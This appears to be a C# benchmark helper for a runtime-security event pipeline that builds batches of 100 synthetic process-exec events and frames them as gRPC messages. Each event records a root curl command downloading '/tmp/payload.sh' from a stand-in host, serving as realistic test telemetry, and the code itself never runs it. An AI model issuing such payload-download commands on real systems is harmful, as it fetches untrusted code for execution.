using Google.Protobuf;
using Vigil.Benchmarks.Messages;

namespace Vigil.Benchmarks.Grpc;

/// <summary>The batch every streaming figure sends: 100 process-exec events, the same as tests/node/bench.js builds.</summary>
public static class BenchBatches
{
    public const int EventsPerBatch = 100;

    public static BenchBatch Create()
    {
        var batch = new BenchBatch();
        for (var i = 0; i < EventsPerBatch; i++)
        {
            batch.Events.Add(new BenchEvent
            {
                TimeUnixNano = 1_700_000_000_000_000_000 + i,
                Node = "node-1",
                ContainerId = new string('a', 64),
                PodUid = "6f1c2b9e-3d4a-4e5f-8a7b-1c2d3e4f5a6b",
                Binary = "/usr/bin/curl",
                Arguments = { "curl", "-s", "-o", "/tmp/payload.sh", "http://payload.example.invalid/x.sh" },
                Pid = 1000 + i,
                ParentPid = 999,
                Cwd = "/app",
                Uid = 0,
            });
        }

        return batch;
    }

    /// <summary>The batch as one framed gRPC message (flag byte, big-endian length, bytes).</summary>
    public static byte[] Framed(BenchBatch batch)
    {
        var body = batch.ToByteArray();
        var framed = new byte[5 + body.Length];
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(framed.AsSpan(1), (uint)body.Length);
        body.CopyTo(framed, 5);
        return framed;
    }
}
